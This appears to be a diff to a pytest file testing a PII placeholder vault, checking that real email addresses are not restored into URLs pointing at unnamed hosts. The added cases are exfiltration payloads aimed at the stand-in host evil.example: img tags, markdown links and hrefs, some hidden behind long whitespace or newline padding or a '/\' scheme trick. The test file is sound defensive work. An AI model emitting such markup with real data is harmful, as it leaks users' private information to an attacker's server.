@@ -64,6 +64,11 @@ def vault(*parts: Part) -> Vault:
         "<img src='//evil.example/?q=<EMAIL_ADDRESS_1>'>",
         "<p>https://evil.example/?q=<EMAIL_ADDRESS_1></p>",
         "|https://evil.example/?q=<EMAIL_ADDRESS_1>|",
+        f'<img src="{" " * 60}https://evil.example/?q= <EMAIL_ADDRESS_1>">',
+        f"<img src = {' ' * 300} ' https://evil.example/?q= <EMAIL_ADDRESS_1>'>",
+        f'<img src="{chr(10) * 60}//evil.example/?q=<EMAIL_ADDRESS_1>">',
+        f'<img src="{" " * 100}/\\evil.example/?q=<EMAIL_ADDRESS_1>">',
+        f"[x]({' ' * 60}<https://evil.example/?q= <EMAIL_ADDRESS_1>>)",
     ],
 )
 @pytest.mark.parametrize("channel", [TEXT, JSON])
@@ -112,6 +117,8 @@ def test_nothing_leaves_to_a_host_that_the_request_does_not_name(text: str, chan
         "//reviewed-by:<EMAIL_ADDRESS_1>",
         "<url>https://evil.example/x</url><name><EMAIL_ADDRESS_1></name>",
         "|https://evil.example/x|<EMAIL_ADDRESS_1>|",
+        f'<a href="https://evil.example{2 * (chr(10) + " " * 8)}<EMAIL_ADDRESS_1>',
+        "the awww.that came from <EMAIL_ADDRESS_1>:awww.<EMAIL_ADDRESS_1>",
     ],
 )
 def test_values_go_where_the_callers_own_text_leads(text: str) -> None:
@@ -138,6 +145,8 @@ def test_the_very_url_that_a_tool_returned_comes_back_whole() -> None:
     made = vault(part("https://crm.example/u?mail=anna@x.com&x=1 http://10.0.0.7:80/a", role=Role.TOOL))
     text = "https://crm.example/u?mail=<EMAIL_ADDRESS_1>&x=1 http://<IP_ADDRESS_1>:80/a"
     assert everywhere(made, text) == "https://crm.example/u?mail=anna@x.com&x=1 http://10.0.0.7:80/a"
+    escaped = '{"u": "https:\\/\\/crm.example\\/u?mail=<EMAIL_ADDRESS_1>"}'
+    assert everywhere(made, escaped, JSON) == escaped.replace("<EMAIL_ADDRESS_1>", "anna@x.com")
     other = "https://crm.example/v?mail=<EMAIL_ADDRESS_1> http://<IP_ADDRESS_1>.evil.example/"
     assert everywhere(made, other) == other
 
